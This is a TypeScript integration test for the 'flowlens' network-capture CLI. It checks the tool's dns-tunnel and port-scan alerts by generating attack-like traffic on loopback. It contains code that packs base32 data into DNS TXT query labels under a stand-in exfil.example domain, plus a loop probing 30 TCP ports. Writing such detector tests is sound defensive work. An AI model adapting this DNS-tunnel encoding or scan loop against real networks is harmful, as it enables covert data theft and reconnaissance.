/**
 * `flowlens capture` with detections on the loopback interface, as root: a DNS tunnel (40 TXT
 * queries with base32 labels to a local responder on 127.0.0.77:53) and a TCP port scan (30
 * closed ports of 127.0.0.78, each refused with RST). The alerts are printed as they fire and are
 * in the store after Ctrl-C (their windows are still open while it runs: the store gets them
 * when the capture stops and every window is evaluated).
 * Needs `npm run build`, tcpdump, and root (CI runs as root).
 */
import { type ChildProcess, spawn } from 'node:child_process';
import dgram from 'node:dgram';
import { mkdtempSync, rmSync } from 'node:fs';
import net from 'node:net';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createDuckDbStore } from '../src/store/index.js';
import { CLI, toolsAvailable } from './support/run.js';

const isRoot = process.getuid?.() === 0;
if (!isRoot) {
  if (process.env.CI === 'true') throw new Error('live capture tests need root in CI');
  console.warn('[flowlens tests] not root: live detection tests are skipped');
}
const ready = isRoot && toolsAvailable(['tcpdump']);

const RESOLVER = '127.0.0.77';
const SCANNED = '127.0.0.78';

let tmp: string;
beforeAll(() => {
  tmp = mkdtempSync(path.join(os.tmpdir(), 'flowlens-detect-live-'));
});
afterAll(() => {
  rmSync(tmp, { recursive: true, force: true });
});

async function until(condition: () => boolean, timeoutMs: number, what: string): Promise<void> {
  const deadline = Date.now() + timeoutMs;
  while (!condition()) {
    if (Date.now() > deadline) throw new Error(`timed out waiting for ${what}`);
    await new Promise((r) => setTimeout(r, 50));
  }
}

/** A TXT query for `name` (RFC 1035 §4.1). */
function txtQuery(id: number, name: string): Buffer {
  const labels = name.split('.').flatMap((l) => [l.length, ...Buffer.from(l)]);
  const header = Buffer.from([id >> 8, id & 0xff, 0x01, 0x00, 0, 1, 0, 0, 0, 0, 0, 0]);
  return Buffer.concat([header, Buffer.from([...labels, 0, 0, 16, 0, 1])]);
}

/** 40 base32 characters from `seed`: data packed into a label. */
function label(seed: number): string {
  const alphabet = 'abcdefghijklmnopqrstuvwxyz234567';
  let x = seed * 2654435761;
  let text = '';
  for (let i = 0; i < 40; i++) {
    x = (Math.imul(x, 1664525) + 1013904223) >>> 0;
    text += alphabet[x >>> 27];
  }
  return text;
}

function refused(port: number): Promise<void> {
  return new Promise((resolve) => {
    const socket = net.connect({ host: SCANNED, port });
    socket.on('error', () => resolve());
    socket.on('connect', () => {
      socket.destroy();
      resolve();
    });
  });
}

describe.runIf(ready)('flowlens capture with detections on lo', () => {
  it('raises dns-tunnel and port-scan alerts and stores them', async () => {
    const resolver = dgram.createSocket('udp4');
    resolver.on('message', (msg, peer) => {
      const reply = Buffer.from(msg);
      reply[2] |= 0x80;
      reply[3] = 0x03; // NXDOMAIN
      resolver.send(reply, peer.port, peer.address);
    });
    await new Promise<void>((r) => resolver.bind(53, RESOLVER, r));
    const data = path.join(tmp, 'data');
    const child: ChildProcess = spawn(
      process.execPath,
      [CLI, 'capture', '-i', 'lo', '--filter', `host ${RESOLVER} or host ${SCANNED}`, '--data', data],
      { stdio: ['ignore', 'ignore', 'pipe'] },
    );
    let stderr = '';
    child.stderr?.on('data', (d) => {
      stderr += d;
    });
    const exited = new Promise<number>((resolve) => child.on('close', (code) => resolve(code ?? -1)));
    try {
      await until(() => /capturing on lo with/.test(stderr), 20_000, `capture to start (${stderr})`);
      // The tool reports itself started a moment before packets flow.
      await new Promise((r) => setTimeout(r, 2000));
      const client = dgram.createSocket('udp4');
      // Paced, so that a busy machine's capture keeps up (tcpdump's kernel buffer is small on lo).
      for (let i = 0; i < 40; i++) {
        const answered = new Promise((r) => client.once('message', r));
        client.send(txtQuery(i + 1, `${label(i + 1)}.${i}.t.exfil.example`), 53, RESOLVER);
        await answered;
        await new Promise((r) => setTimeout(r, 20));
      }
      client.close();
      for (let port = 40001; port <= 40030; port++) {
        await refused(port);
        await new Promise((r) => setTimeout(r, 10));
      }
      await new Promise((r) => setTimeout(r, 1500));
      child.kill('SIGINT');
      expect(await exited, stderr).toBe(0);
    } finally {
      child.kill('SIGKILL');
      resolver.close();
    }
    // A loaded machine may drop a few packets in the kernel: the counts are not pinned.
    expect(stderr).toMatch(
      /flowlens: alert: \w+ dns-tunnel: 127\.0\.0\.1 sent \d+ DNS queries for \d+ unique names under exfil\.example via 127\.0\.0\.77/,
    );
    expect(stderr).toMatch(
      /flowlens: alert: \w+ port-scan: 127\.0\.0\.1 probed \d+ TCP ports on 127\.0\.0\.78/,
    );
    expect(stderr).toMatch(/; 2 alerts, 2 alert writes to the store/);

    const store = createDuckDbStore({ dataDir: data });
    await store.start();
    try {
      const alerts = await store.listAlerts();
      expect(alerts.map((a) => [a.type, a.srcIp, a.dstIp]).sort()).toEqual([
        ['dns-tunnel', '127.0.0.1', RESOLVER],
        ['port-scan', '127.0.0.1', SCANNED],
      ]);
    } finally {
      await store.stop();
    }
  }, 60_000);
});
